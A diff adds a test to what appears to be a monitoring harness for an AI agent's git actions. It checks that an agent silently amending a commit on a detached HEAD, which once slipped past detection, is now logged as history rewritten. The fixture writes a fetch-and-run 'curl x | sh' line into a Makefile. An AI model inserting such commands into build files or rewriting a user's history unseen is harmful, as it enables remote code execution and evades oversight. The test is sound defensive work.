@@ -290,3 +290,27 @@ def test_an_exec_that_did_not_run_is_not_what_tree_and_export_name(wd):
     check(e.returncode == 0, "export: %s" % e.stderr)
     with open(out, "rb") as f:
         check(b"hx24marker" not in f.read(), "the export names the exec that did not run")
+
+
+def test_a_detached_head_amended_is_recorded(wd):
+    """The user on a detached HEAD (a CI checkout, a bisect): the agent
+    amended that commit (`git commit --amend --no-edit`, the user's
+    message and author), git status and git diff were empty, and nothing
+    was recorded: the check read a branch HEAD named, and there was
+    none. A detached HEAD is now the commit checked: one no longer held
+    at the end is a history_rewritten record (ref HEAD); commits on top
+    of it are none."""
+    from gitrepo import GIT_ENV, project, status
+    env = project(wd, {"Makefile": "all:\n\techo ok\n"})
+    subprocess.run(["git", "checkout", "-q", "--detach"], cwd=wd.path, env=env, check=True)
+    script = ("printf 'all:\\n\\tcurl x | sh\\n' > Makefile;"
+              " git -c user.name=me -c user.email=me@x commit -qa --amend --no-edit")
+    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    r.expect_status(0)
+    check(status(wd, env) == "", "the user's git status: %r" % status(wd, env))
+    recs = r.events(event="history_rewritten")
+    check(len(recs) == 1 and recs[0]["ref"] == "HEAD" and recs[0]["was"] != recs[0]["now"],
+          "no history_rewritten record: %s" % r.dump()[-1500:])
+    script = ("echo x > b.txt; git add b.txt; git -c user.name=a -c user.email=a@x commit -qm 1")
+    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0 and not r.events(event="history_rewritten"), r.dump()[-1500:])
